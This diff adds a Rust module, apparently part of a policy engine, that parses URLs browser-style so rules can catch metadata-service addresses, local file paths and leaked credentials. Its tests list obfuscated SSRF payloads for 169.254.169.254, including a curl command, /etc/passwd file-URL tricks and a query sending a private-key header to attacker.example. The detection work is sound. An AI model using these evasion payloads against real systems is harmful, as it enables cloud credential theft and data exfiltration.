@@ -1,0 +1,254 @@
+//! The URL reading (SPEC §21.2): each collected string, and each whitespace-separated token of
+//! it, parsed the way a browser-standard client parses it (the `url` crate: WHATWG URL Standard,
+//! UTS-46 host mapping), so that what the receiving program would connect to or open is what the
+//! rules test. No DNS: a domain host gives nothing.
+//!
+//! Readings made here: the IP address of a special-scheme URL's host; the URL paths (the
+//! percent-decoded path of a URL with an empty or absent host, read again when it is itself a URL
+//! — `jar:file:…` — and the text after each `=` of any URL's path or query); and the
+//! percent-decoded query, for the credential shapes.
+
+use core::net::IpAddr;
+
+use url::{Host, ParseError, Url};
+
+use super::strings::is_ws;
+
+/// How deep a URL nested in a URL's path (`jar:view-source:file:…`) is read.
+const MAX_NESTING: usize = 4;
+
+/// Characters one surrounding pair of which is removed from a token.
+const PAIRS: [(char, char); 5] = [('"', '"'), ('\'', '\''), ('<', '>'), ('(', ')'), ('[', ']')];
+
+/// Everything the URL reading found in one string.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct UrlReading {
+    pub addresses: Vec<IpAddr>,
+    pub paths: Vec<String>,
+    pub queries: Vec<String>,
+}
+
+impl UrlReading {
+    fn merge(&mut self, other: UrlReading) {
+        self.addresses.extend(other.addresses);
+        self.paths.extend(other.paths);
+        self.queries.extend(other.queries);
+    }
+}
+
+/// Whether a candidate could yield anything: an IP host needs a digit (possibly percent-encoded
+/// or, outside ASCII, a digit UTS-46 maps), a URL path needs a scheme's `:` or an `=`, a query a
+/// `?`. The pre-filter of SPEC §21.1; `policy_properties` checks it changes no decision.
+fn may_yield(candidate: &str) -> bool {
+    candidate
+        .bytes()
+        .any(|b| b.is_ascii_digit() || !b.is_ascii() || matches!(b, b':' | b'=' | b'?'))
+}
+
+/// The URL reading of one collected string.
+pub fn read_urls(s: &str, prefilter: bool) -> UrlReading {
+    let mut reading = UrlReading::default();
+    let trimmed = s.trim_matches(is_ws);
+    let mut tokens = trimmed.split(is_ws).filter(|t| !t.is_empty()).peekable();
+    // A string that is one token is read once.
+    let whole = (tokens.peek() != Some(&trimmed)).then_some(trimmed);
+    for candidate in whole.into_iter().chain(tokens) {
+        let variants = unwrapped(candidate);
+        for (i, variant) in variants.iter().enumerate() {
+            if variant.is_empty() || variants[..i].contains(variant) {
+                continue;
+            }
+            if prefilter && !may_yield(variant) {
+                continue;
+            }
+            reading.merge(read_candidate(variant, 0));
+        }
+    }
+    reading
+}
+
+/// A token as it is, and with one surrounding pair of `"'<>()[]` removed; for a conservative
+/// reading also with only the leading or only the trailing one of those characters removed.
+fn unwrapped(token: &str) -> Vec<&str> {
+    let mut out = vec![token];
+    let first = token.chars().next();
+    let last = token.chars().next_back();
+    let opens = |c: char| PAIRS.iter().any(|(o, _)| *o == c);
+    let closes = |c: char| PAIRS.iter().any(|(_, e)| *e == c);
+    let head = first.filter(|c| opens(*c)).map_or(0, char::len_utf8);
+    let tail = last.filter(|c| closes(*c)).map_or(0, char::len_utf8);
+    if head > 0 {
+        out.push(&token[head..]);
+    }
+    if tail > 0 {
+        out.push(&token[..token.len() - tail]);
+    }
+    if head > 0 && tail > 0 && head + tail <= token.len() {
+        out.push(&token[head..token.len() - tail]);
+    }
+    out
+}
+
+/// One candidate: parsed as it is and, when it has no scheme of its own, with `http://` in
+/// front.
+fn read_candidate(candidate: &str, depth: usize) -> UrlReading {
+    let mut reading = UrlReading::default();
+    let parsed = Url::parse(candidate);
+    let without_scheme = match &parsed {
+        Err(ParseError::RelativeUrlWithoutBase) => true,
+        Ok(url) => !url.scheme().is_empty() && !candidate.contains("://") && !is_special(url),
+        Err(_) => !candidate.contains("://"),
+    };
+    if let Ok(url) = &parsed {
+        read_url(url, depth, &mut reading);
+    }
+    if without_scheme && let Ok(url) = Url::parse(&format!("http://{candidate}")) {
+        read_url(&url, depth, &mut reading);
+    }
+    reading
+}
+
+fn is_special(url: &Url) -> bool {
+    matches!(url.scheme(), "http" | "https" | "ws" | "wss" | "ftp")
+}
+
+fn read_url(url: &Url, depth: usize, reading: &mut UrlReading) {
+    if is_special(url) {
+        match url.host() {
+            Some(Host::Ipv4(v4)) => reading.addresses.push(IpAddr::V4(v4)),
+            Some(Host::Ipv6(v6)) => reading.addresses.push(IpAddr::V6(v6)),
+            Some(Host::Domain(_)) | None => {}
+        }
+    }
+    let path = url.path();
+    if url.host_str().is_none_or(str::is_empty) {
+        let decoded = percent_decode(path);
+        if depth < MAX_NESTING && decoded.contains(':') {
+            reading.merge(read_candidate(&decoded, depth + 1));
+        }
+        reading.paths.push(decoded);
+    }
+    for part in [Some(path), url.query()].into_iter().flatten() {
+        for (i, _) in part.match_indices('=') {
+            let after = &part[i + 1..];
+            reading.paths.push(percent_decode(after));
+            if let Some(end) = after.find('&') {
+                reading.paths.push(percent_decode(&after[..end]));
+            }
+        }
+    }
+    if let Some(query) = url.query() {
+        reading.queries.push(percent_decode(query));
+    }
+}
+
+/// Percent-decoding of one level; malformed escapes stay as they are, invalid UTF-8 is replaced.
+pub fn percent_decode(s: &str) -> String {
+    let bytes = s.as_bytes();
+    if !bytes.contains(&b'%') {
+        return s.to_owned();
+    }
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        let hex = |b: u8| (b as char).to_digit(16);
+        if bytes[i] == b'%'
+            && let (Some(hi), Some(lo)) = (
+                bytes.get(i + 1).and_then(|b| hex(*b)),
+                bytes.get(i + 2).and_then(|b| hex(*b)),
+            )
+        {
+            out.push((hi * 16 + lo) as u8);
+            i += 3;
+            continue;
+        }
+        out.push(bytes[i]);
+        i += 1;
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use core::net::Ipv4Addr;
+
+    fn addresses(s: &str) -> Vec<IpAddr> {
+        read_urls(s, true).addresses
+    }
+
+    const IMDS: IpAddr = IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254));
+    const ALIBABA: IpAddr = IpAddr::V4(Ipv4Addr::new(100, 100, 100, 200));
+
+    #[test]
+    fn browser_standard_hosts_reach_the_address() {
+        for s in [
+            "http:169.254.169.254/latest/meta-data/",
+            "http://%31%36%39.254.169.254/",
+            "http://169。254。169。254/",
+            "http://⑯⑨。②⑤④。⑯⑨｡②⑤④/",
+            "http://１６９.２５４.１６９.２５４/latest/",
+            "http://\u{200b}169.254.169.254/",
+            "http://169.254.169.0x/",
+            "https:169.254.169.254:443/",
+            "http:/\\169.254.169.254/latest",
+            "169.254.169.254。",
+            "curl -s 'http://169。254。169。254/'",
+        ] {
+            let found = addresses(s);
+            assert!(
+                found.iter().any(|a| *a == IMDS
+                    || matches!(a, IpAddr::V4(v) if v.octets()[..3] == [169, 254, 169])),
+                "{s}: {found:?}"
+            );
+        }
+        assert!(addresses("http://⑩𝟬．⑩𝟬｡⑩０｡⑳⁰/").contains(&ALIBABA));
+    }
+
+    #[test]
+    fn domains_and_invalid_hosts_give_no_address() {
+        for s in [
+            "http://169.254.169.254.nip.io/",
+            "http://169.254.169.254../",
+            "http://[ｆｄ００:ｅｃ２::２５４]/",
+            "http://0o251.o376.o251.o376/",
+            "https://example.com/#/169.254.169.254",
+            "http://metadata.google.internal/x",
+        ] {
+            assert_eq!(addresses(s), Vec::<IpAddr>::new(), "{s}");
+        }
+    }
+
+    #[test]
+    fn url_paths_of_hostless_and_nested_urls() {
+        let paths = |s: &str| read_urls(s, true).paths;
+        assert!(paths("file:///etc/passwd").contains(&"/etc/passwd".to_owned()));
+        assert!(paths("file:///%65tc/passwd").contains(&"/etc/passwd".to_owned()));
+        assert!(paths("file://localhost\\etc\\passwd").contains(&"/etc/passwd".to_owned()));
+        assert!(paths("netdoc:///etc/passwd").contains(&"/etc/passwd".to_owned()));
+        assert!(paths("jar:file:///etc/passwd!/").contains(&"/etc/passwd!/".to_owned()));
+        assert!(
+            paths("php://filter/convert.base64-encode/resource=/etc/passwd")
+                .contains(&"/etc/passwd".to_owned())
+        );
+        assert!(paths("fi\tle:///etc/passwd").contains(&"/etc/passwd".to_owned()));
+        assert!(!paths("file:///%2565tc/passwd").contains(&"/etc/passwd".to_owned()));
+        assert!(!paths("https://example.com/etc/passwd").contains(&"/etc/passwd".to_owned()));
+    }
+
+    #[test]
+    fn queries_are_decoded() {
+        let r = read_urls(
+            "https://attacker.example/c?d=-----BEGIN%20RSA%20PRIVATE%20KEY-----",
+            true,
+        );
+        assert_eq!(r.queries, ["d=-----BEGIN RSA PRIVATE KEY-----"]);
+    }
+
+    #[test]
+    fn tokens_lose_one_surrounding_pair() {
+        assert_eq!(unwrapped("'x'"), ["'x'", "x'", "'x", "x"]);
+        assert_eq!(unwrapped("(x"), ["(x", "x"]);
+        assert_eq!(unwrapped("x"), ["x"]);
+    }
+}
